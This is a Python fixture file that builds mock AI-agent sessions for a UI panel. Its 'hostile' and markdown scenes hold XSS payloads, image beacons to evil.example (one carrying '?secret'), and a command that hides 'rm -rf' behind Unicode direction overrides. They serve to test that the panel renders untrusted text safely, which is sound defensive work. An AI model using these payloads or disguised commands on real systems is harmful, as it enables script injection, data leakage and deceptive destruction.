"""What the panel is shown with when no server is there: sessions as lists of events, by name."""

# ruff: noqa: E501, RUF001 -- the words of a conversation are one line each, with their signs

from __future__ import annotations

import base64
import itertools
import struct
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

Body = dict[str, Any]


def text(words: str) -> list[Body]:
    return [{"type": "text", "text": words}]


def chart() -> str:
    """A small bar chart as base64 PNG."""
    width, height, bars = 272, 120, (110, 70, 66, 62, 60, 58, 50, 44)
    rows = bytearray()
    for y in range(height):
        rows.append(0)
        for x in range(width):
            bar = y // 15
            filled = y % 15 > 3 and 24 < x < 24 + bars[bar] * 2
            rows += bytes((30, 136, 229) if filled else (255, 255, 255))

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head)
    png += chunk(b"IDAT", zlib.compress(bytes(rows))) + chunk(b"IEND", b"")
    return base64.b64encode(png).decode()


@dataclass
class Scene:
    """Events with their times; `ago` is how many seconds before now the scene began."""

    ago: float = 60.0
    session: Body = field(default_factory=dict)
    events: list[Body] = field(default_factory=list)
    turn: str | None = None
    clock: float = 0.0
    calls: Iterable[int] = field(default_factory=lambda: itertools.count(1))

    def add(self, type: str, after: float = 0.0, **fields: Any) -> Scene:
        self.clock += after
        began = datetime.now(UTC) - timedelta(seconds=self.ago)
        time = (began + timedelta(seconds=self.clock)).isoformat(timespec="milliseconds")
        event = {
            "seq": len(self.events) + 1,
            "session_id": "scene",
            "turn_id": self.turn,
            "time": time.replace("+00:00", "Z"),
            "type": type,
            **fields,
        }
        self.events.append(event)
        return self

    def ask(self, words: str, context: list[Body] | None = None) -> Scene:
        self.turn = f"t{len(self.events)}"
        self.add(
            "user_message", 0.5, message_id=self.turn, content=text(words), context=context or []
        )
        return self.add("turn_started")

    def think(self, words: str, seconds: float) -> Scene:
        name = f"th{len(self.events)}"
        self.add("agent_thought_chunk", message_id=name, text=words)
        ms = int(seconds * 1000)
        return self.add(
            "agent_thought", seconds, message_id=name, content=text(words), duration_ms=ms
        )

    def say(self, words: str, done: bool = True) -> Scene:
        name = f"m{len(self.events)}"
        if done:
            return self.add("agent_message", 1.0, message_id=name, content=text(words))
        return self.add("agent_message_chunk", 1.0, message_id=name, text=words)

    def call(
        self,
        title: str,
        name: str,
        seconds: float = 0.1,
        status: str | None = "completed",
        output: list[Body] | None = None,
        **fields: Any,
    ) -> str:
        call_id = f"c{next(iter(self.calls))}"
        self.add("tool_call", 0.1, tool_call_id=call_id, title=title, name=name, **fields)
        if status is not None:
            self.add(
                "tool_call_update",
                seconds,
                tool_call_id=call_id,
                status=status,
                **({} if output is None else {"content": output}),
            )
        return call_id

    def end(self, stop: str = "end_turn", **fields: Any) -> Scene:
        usage = {
            "input_tokens": 22000,
            "output_tokens": 2100,
            "cost_usd": 0.14,
            "cost_source": "agent",
        }
        fields.setdefault("usage", usage)
        return self.add("turn_ended", 0.5, stop_reason=stop, duration_ms=31000, **fields)


ERROR = {
    "type": "error",
    "label": "error in [7]",
    "notebook": "analysis/eda.ipynb",
    "cell_id": "c7",
    "execution_count": 7,
    "source": 'df.groupby("region")["order_value"].mean()',
    "ename": "KeyError",
    "evalue": "'region'",
    "traceback": "\x1b[31mKeyError\x1b[0m: 'region'",
}
VARIABLE = {
    "type": "variable",
    "label": "df 1.2M × 15",
    "name": "df",
    "text": "DataFrame, 15 columns",
}
USAGE: Body = {
    "turns": 2,
    "input_tokens": 21000,
    "output_tokens": 3100,
    "cost_usd": 0.14,
    "cost_source": "agent",
    "context_used": 24100,
    "context_size": 200000,
}
EDIT = {
    "type": "diff",
    "path": "/srv/analysis/clean.py",
    "line": 12,
    "old_text": 'orders = load()\ndf = orders.merge(customers, on="customer_id")\ndf.shape\n',
    "new_text": 'orders = load()\ndf = orders.merge(customers, on=["customer_id", "region"],\n'
    '                  how="left", validate="many_to_one")\ndf.shape\n',
}
PROMPT = "The groupby in [7] fails. Fix it at its root, then show the mean order value by region."
FOUND = (
    "`df` has no column `region`: both tables have one, so the merge in [5] made `region_x` and "
    "`region_y`. They disagree in 312 of 1,204,118 rows, so I join on it as well instead of "
    "dropping one."
)


def look_around(scene: Scene) -> None:
    at = "/srv/analysis/"
    scene.call(
        "Read eda.ipynb",
        "Read",
        0.3,
        target="eda.ipynb",
        kind="read",
        raw_input={"file_path": at + "eda.ipynb"},
        output=text("1\timport pandas as pd"),
    )
    scene.call(
        "List variables",
        "mcp__agent_lab__list_variables",
        0.2,
        kind="read",
        raw_input={},
        output=text("df: DataFrame"),
    )
    scene.call(
        "Inspect variable df",
        "mcp__agent_lab__inspect_variable",
        0.4,
        target="df",
        kind="read",
        raw_input={"name": "df"},
        output=text("1.2M x 15"),
    )
    scene.call(
        "Search region_x",
        "Grep",
        0.6,
        target="region_x",
        kind="search",
        raw_input={"pattern": "region_x"},
        output=text("clean.py:13"),
    )


def work() -> Scene:
    """A turn in full swing: thinking, steps, an edit, a run with table and picture, a streaming answer."""
    scene = Scene(ago=24)
    scene.session = {
        "queue": [
            {
                "id": "q1",
                "content": text("Then save the table as parquet."),
                "context": [],
                "origin": "composer",
            }
        ]
    }
    scene.ask(PROMPT, [ERROR, VARIABLE])
    scene.think("The groupby fails because `region` is missing. I look at the merge first.", 4.0)
    scene.say(FOUND)
    look_around(scene)
    scene.call(
        "Edit clean.py",
        "Edit",
        0.1,
        target="clean.py",
        kind="edit",
        content=[EDIT],
        raw_input={"file_path": "/srv/analysis/clean.py"},
        locations=[{"path": "/srv/analysis/clean.py", "line": 12}],
    )
    code = '(df.groupby("region")["order_value"]\n   .agg(orders="size", mean="mean", median="median")\n   .sort_values("mean", ascending=False))'
    table = "             orders    mean  median\nregion\nEMEA-South   38,411  148.20   62.10\nEMEA-North   94,027   71.42   58.90\nNordics      61,880   69.91   57.75"
    scene.call(
        "Run cell [7]",
        "mcp__agent_lab__run_cell",
        0.4,
        kind="execute",
        raw_input={"code": code},
        output=[*text(table), {"type": "image", "mime_type": "image/png", "data": chart()}],
    )
    scene.add(
        "plan",
        entries=[
            {"content": "Repair the merge", "status": "completed", "priority": "medium"},
            {
                "content": "Check the outliers in EMEA-South",
                "status": "in_progress",
                "priority": "medium",
            },
            {"content": "Plot it", "status": "pending", "priority": "medium"},
            {"content": "Write it up", "status": "pending", "priority": "medium"},
        ],
    )
    return scene.say(
        "The means are back for all 12 regions. **EMEA-South** stands out at 148.20, 2.3 times the "
        "median region, while its own median is an ordinary 62.10. A few very large orders pull it up; "
        "I look at them before you quote the",
        done=False,
    )


def finished() -> Scene:
    """The same turn an hour later: its steps in one line, its cost beneath."""
    scene = Scene(ago=3600)
    scene.session = {"status": "idle"}
    scene.ask(PROMPT, [ERROR, VARIABLE])
    scene.think("The groupby fails because `region` is missing.", 4.0)
    scene.say(FOUND)
    look_around(scene)
    scene.call(
        "Edit clean.py", "Edit", 0.1, target="clean.py", kind="edit", content=[EDIT], raw_input={}
    )
    scene.say("Means are back for all 12 regions; **EMEA-South** stands out at 148.20.")
    scene.end()
    scene.ask("Why is it so high?")
    agent = scene.call(
        "Sub-agent look for gaps",
        "Agent",
        12.0,
        None,
        target="look for gaps",
        kind="think",
        raw_input={"prompt": "Look for gaps in the orders", "description": "look for gaps"},
    )
    scene.call(
        "Read orders_04.csv",
        "Read",
        0.1,
        "failed",
        target="orders_04.csv",
        kind="read",
        raw_input={},
        output=text("No such file"),
        parent_tool_call_id=agent,
    )
    scene.call(
        "Bash ls data/2023",
        "Bash",
        0.2,
        target="ls data/2023",
        kind="execute",
        parent_tool_call_id=agent,
        raw_input={"command": "ls data/2023"},
        output=[
            {"type": "terminal", "command": "ls data/2023", "output": "a\nb\n", "exit_code": 0}
        ],
    )
    scene.call(
        "Bash sha256sum *",
        "Bash",
        8.0,
        "cancelled",
        target="sha256sum *",
        kind="execute",
        raw_input={"command": "sha256sum *"},
        parent_tool_call_id=agent,
    )
    scene.add(
        "tool_call_update",
        0.2,
        tool_call_id=agent,
        status="completed",
        content=text("Nothing is **missing**."),
    )
    scene.call(
        "Bash python check.py",
        "Bash",
        1.3,
        "failed",
        target="python check.py",
        kind="execute",
        raw_input={"command": "python check.py"},
        output=[
            {
                "type": "terminal",
                "command": "python check.py",
                "output": "Traceback (most recent call last):\nImportError: no pyarrow\n",
                "exit_code": 1,
            }
        ],
    )
    scene.say("January to March are in. April needs the")
    return scene.end("cancelled", usage={"input_tokens": 900, "output_tokens": 300})


OPTIONS = [
    {"option_id": "1", "kind": "allow_once", "label": "Allow once", "scope": ""},
    {
        "option_id": "2",
        "kind": "allow_always",
        "label": "Always allow `pip install *` here",
        "scope": "In the workspace analysis, for every session, until you revoke it",
    },
    {"option_id": "3", "kind": "reject_once", "label": "Reject", "scope": ""},
]


def waiting(scene: Scene, request: Body) -> Scene:
    scene.session = {
        "status": "awaiting_permission",
        "pending_permissions": [{"type": "permission_request", **request}],
    }
    return scene.add("permission_request", 0.1, **request)


def permission() -> Scene:
    scene = Scene(ago=14).ask("Save the table as parquet.")
    scene.call(
        "Run cell [8]",
        "mcp__agent_lab__run_cell",
        0.1,
        "failed",
        target="[8]",
        kind="execute",
        raw_input={"code": 'df.to_parquet("reports/region.parquet")'},
        output=text("ImportError: no engine"),
    )
    command = {"command": "pip install pyarrow", "timeout": 120000}
    call = scene.call(
        "Bash pip install pyarrow",
        "Bash",
        0,
        None,
        target="pip install pyarrow",
        kind="execute",
        raw_input=command,
        content=[{"type": "terminal", "command": "pip install pyarrow"}],
    )
    return waiting(
        scene,
        {
            "request_id": "p1",
            "kind": "tool",
            "title": "Run a command?",
            "tool_call_id": call,
            "options": OPTIONS,
            "input": command,
            "description": "The table has to be saved as parquet, and this environment has no engine for it.",
        },
    )


def edit() -> Scene:
    """A permission for a change to a file, with a command that hides something before it."""
    scene = Scene(ago=14).ask("Repair the merge in clean.py.")
    hidden = "echo ok \u202e# mr -rf \u2066 \u200b; ls"
    scene.call(
        "Bash echo",
        "Bash",
        0.1,
        target=hidden,
        kind="execute",
        raw_input={"command": hidden},
        output=[
            {
                "type": "terminal",
                "command": hidden,
                "output": "\x1b[31mred\x1b[0m \x1b]8;;http://x\x07link\x1b]8;;\x07\n50%\r100%\n\x00",
                "exit_code": 0,
            }
        ],
    )
    call = scene.call(
        "Edit clean.py",
        "Edit",
        0,
        None,
        target="clean.py",
        kind="edit",
        content=[EDIT],
        raw_input={"file_path": "/srv/analysis/clean.py"},
    )
    return waiting(
        scene,
        {
            "request_id": "p1",
            "kind": "tool",
            "title": "Change a file?",
            "tool_call_id": call,
            "options": OPTIONS,
            "input": {"file_path": "/srv/analysis/clean.py", "old_string": "a", "new_string": "b"},
        },
    )


def question() -> Scene:
    scene = Scene(ago=6).ask("Merge the two tables.")
    return waiting(
        scene,
        {
            "request_id": "p1",
            "kind": "question",
            "title": "Before the merge is changed",
            "options": [
                {"option_id": "a", "kind": "allow_once", "label": "Send answers", "scope": ""},
                {"option_id": "r", "kind": "reject_once", "label": "Skip", "scope": ""},
            ],
            "questions": [
                {
                    "question": "Which region is right where the tables disagree?",
                    "header": "Region",
                    "multiple": False,
                    "choices": [
                        {
                            "label": "From orders",
                            "description": "`region_x`, where it was sold; 12 values, none missing",
                        },
                        {
                            "label": "From customers",
                            "description": "`region_y`, where the customer lives; 18,204 missing",
                        },
                    ],
                },
                {
                    "question": "What else shall I check?",
                    "header": "Checks",
                    "multiple": True,
                    "choices": [
                        {"label": "Duplicate orders", "description": ""},
                        {
                            "label": "Orders above the 99.9th percentile",
                            "description": "1,204 rows",
                        },
                        {"label": "Currency of `order_value`", "description": ""},
                    ],
                },
            ],
        },
    )


def plan() -> Scene:
    scene = Scene(ago=6).ask("Plan the repair.")
    return waiting(
        scene,
        {
            "request_id": "p1",
            "kind": "plan",
            "title": "Plan",
            "description": "## One region column\n\nThe merge in [5] doubles `region`. I repair the join and leave the later cells as they are.\n\n"
            '1. Join on `customer_id` and `region` in [5], with `validate="many_to_one"`.\n2. Run [5] to [7] again and drop the 312 rows without a segment.\n'
            "3. Plot mean and median by region in a new cell below [7].\n4. Save the table as `reports/region.parquet`.",
            "options": [
                {
                    "option_id": "1",
                    "kind": "allow_once",
                    "label": "Approve, ask before edits",
                    "scope": "",
                },
                {
                    "option_id": "2",
                    "kind": "allow_always",
                    "label": "Approve, accept edits",
                    "scope": "in this session",
                },
                {"option_id": "3", "kind": "reject_once", "label": "Keep planning", "scope": ""},
            ],
        },
    )


def failing() -> Scene:
    scene = Scene(ago=100)
    scene.session = {"status": "failed", "demo": True}
    scene.ask("Backfill the 2023 orders.")
    scene.add(
        "notice",
        level="warning",
        code="api_retry",
        text="The model did not answer. Try 3 of 10 in 8 s.",
        key="retry",
    )
    scene.add(
        "notice", level="info", code="compact", text="The history was shortened to make room."
    )
    scene.say("January to March are in. April needs the")
    scene.end(
        "error",
        error={
            "message": "The model is overloaded (529). claude tried 3 times in 40 s. What it had done stays.",
            "reason": "overloaded",
            "detail": "529 overloaded_error",
        },
    )
    scene.ask("Again, please.")
    scene.end(
        "error",
        error={
            "message": "Your message is kept. Sign in, then try again.",
            "reason": "agent_not_signed_in",
            "detail": "",
        },
    )
    scene.add("agent_output_invalid", excerpt='{"type": "assis', reason="torn", length=15)
    scene.add("unknown", raw={"type": "hologram", "n": 1})
    return scene.add("agent_exited", code=None, signal=9, expected=False, stderr="Killed")


MARKDOWN = """\
# A heading

Words with **strong**, *soft*, `code`, ~~gone~~, a [link](https://example.org/a?b=1&c=2), a [file](clean.py:12),
a [bad link](javascript:alert(1)) and &copy; &lt;tag&gt;. ![a picture](https://evil.example/pixel.png?secret)

- one
- two
  1. nested
  2. list
- [x] done
- [ ] open

| region | orders | mean |
|:--|--:|:-:|
| EMEA-South | 38,411 | 148.20 |
| EMEA-North | 94,027 | 71.42 |

> A quotation, of two lines
> in one.

```python
# Join on both keys
def merge(orders, customers):
    return orders.merge(customers, on=["customer_id", "region"], how="left")  # 312 rows
```

```diff
- old
+ new
```

<details><summary>Inside</summary>H<sub>2</sub>O <b onclick="alert(1)">bold</b><img src=x onerror=alert(1)></details>

---
Last words: `x < 1 && y > 2`.
"""


def markdown() -> Scene:
    scene = Scene(ago=60)
    scene.session = {"status": "idle"}
    return scene.ask("Show me everything.").say(MARKDOWN).end()


HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[a](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=http://evil.example></iframe>",
    '<div><img src="http://evil.example/a.png"><style>@import "http://evil.example/s"</style></div>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form action=http://evil.example><button>go</button></form>",
    "![y][x]\n\n[x]: http://evil.example/x",
    "<video src=http://evil.example/v.mp4 autoplay></video>",
    "[click](//evil.example)",
    '<p style="background:url(http://evil.example/b)">x</p>',
    "<details open ontoggle=alert(1)>x</details>",
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<link rel=stylesheet href=http://evil.example/c>",
    '<table background="http://evil.example/t.png"><tr><td>x</table>',
    "<x/onclick=alert(1)>click",
    "<input type=image src=http://evil.example/i.png>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "`<img src=x onerror=alert(1)>`",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
)


def hostile() -> Scene:
    """What must do nothing, in every place where text from outside is shown."""
    scene = Scene(ago=60)
    scene.session = {"status": "idle", "title": HOSTILE[0]}
    for words in HOSTILE:
        scene.ask(words, [{"type": "file", "label": words, "text": words, "path": words}])
        scene.think(words, 1).say(words)
        raw = {"command": words, "file_path": words, "code": words}
        scene.call(
            words,
            words,
            0.1,
            target=words,
            raw_input=raw,
            output=text(words),
            locations=[{"path": words}],
        )
        scene.add("notice", level="warning", code="x", text=words)
        scene.end("error", error={"message": words, "reason": "x", "detail": words})
    return scene


def empty() -> Scene:
    return Scene(
        session={
            "status": "idle",
            "demo": True,
            "title": "New session",
            "last_seq": 0,
            "usage": {"cost_usd": None, "context_used": None, "context_size": None},
        }
    )


def fork() -> Scene:
    """A fork, with what it was cut from."""
    scene = Scene(ago=400)
    scene.session = {
        "status": "idle",
        "title": "Fix the groupby error (fork)",
        "forked_from": {"session_id": "finished", "seq": 12},
    }
    scene.ask(PROMPT, [ERROR]).say(FOUND).end()
    scene.add("notice", level="info", code="forked", text="The history up to here is a copy.")
    return scene


def thinking() -> Scene:
    """The first seconds of a turn, with a queue of two behind it."""
    items = ("Then save the table as parquet.", "And write two sentences about the outliers.")
    scene = Scene(ago=3)
    scene.session = {
        "queue": [
            {"id": f"q{n}", "content": text(words), "context": [], "origin": "composer"}
            for n, words in enumerate(items)
        ]
    }
    scene.ask(PROMPT, [ERROR])
    return scene.add(
        "agent_thought_chunk",
        message_id="th",
        text="The merge in [5] has two tables with a `region` each. I look at how",
    )


def bypass() -> Scene:
    scene = finished()
    modes = ["default", "acceptEdits", "plan", "bypassPermissions"]
    scene.session |= {"permission_mode": modes[-1], "permission_modes": modes}
    return scene


def limits() -> Scene:
    """The budget, the disk and the context: each says what mends it."""
    scene = Scene(ago=300)
    scene.session = {"status": "idle"}
    for words, reason, message in (
        ("Go on.", "budget_exhausted", "5.00 USD are spent. Raise `AgentLab.budget_usd` to go on."),
        (
            "And now?",
            "storage",
            "The disk is full: what the agent says is kept in memory. Make room.",
        ),
        ("Again.", "context_full", "Nothing more fits. Send /compact, or begin a new session."),
        ("Again.", "rate_limited", "The limit is reached until 16:00. Your message is kept."),
    ):
        scene.ask(words).end("error", error={"message": message, "reason": reason, "detail": ""})
    return scene


def history() -> Scene:
    """300 turns, to scroll back through."""
    scene = Scene(ago=90000)
    scene.session = {"status": "idle"}
    for n in range(300):
        scene.ask(f"Question {n}")
        scene.call(
            f"Bash echo {n}",
            "Bash",
            0.2,
            target=f"echo {n}",
            kind="execute",
            raw_input={"command": f"echo {n}"},
        )
        scene.say(f"Answer {n}. " + "It has some words to it. " * (n % 7 + 1)).end()
    return scene


SCENES: dict[str, Callable[[], Scene]] = {
    "work": work,
    "finished": finished,
    "permission": permission,
    "edit": edit,
    "question": question,
    "plan": plan,
    "failing": failing,
    "markdown": markdown,
    "empty": empty,
    "fork": fork,
    "thinking": thinking,
    "bypass": bypass,
    "limits": limits,
    "signed_out": finished,
    "gone": finished,
    "history": history,
    "hostile": hostile,
}


def session(name: str, scene: Scene) -> Body:
    running = {"status": "running"}
    return {
        "id": name,
        "title": "Fix the groupby error",
        "agent": "claude",
        "agent_session_id": None,
        "workspace": {
            "path": "analysis",
            "cwd": "/srv/analysis",
            "branch": "main",
            "worktree": None,
            "trusted": True,
        },
        "notebook": {"path": "analysis/eda.ipynb", "kernel_id": None},
        "mode": "structured",
        **running,
        "status_reason": None,
        "model": "opus",
        "models": [
            {"id": "opus", "name": "opus", "efforts": []},
            {"id": "sonnet", "name": "sonnet", "efforts": []},
        ],
        "permission_mode": "default",
        "permission_modes": ["default", "acceptEdits", "plan"],
        "effort": "high",
        "efforts": ["low", "medium", "high"],
        "usage": USAGE,
        "queue": [],
        "pending_permissions": [],
        "parent_id": None,
        "terminal": None,
        "commands": [
            {
                "name": "compact",
                "description": "Shorten the history, keep the gist",
                "hint": "[what to keep]",
            },
            {"name": "context", "description": "What fills the context", "hint": ""},
            {"name": "review", "description": "Review the changes", "hint": ""},
        ],
        "demo": False,
        "created_at": "2026-01-05T10:00:00.000Z",
        "updated_at": "2026-01-05T10:00:00.000Z",
        "last_seq": len(scene.events),
        **scene.session,
    }
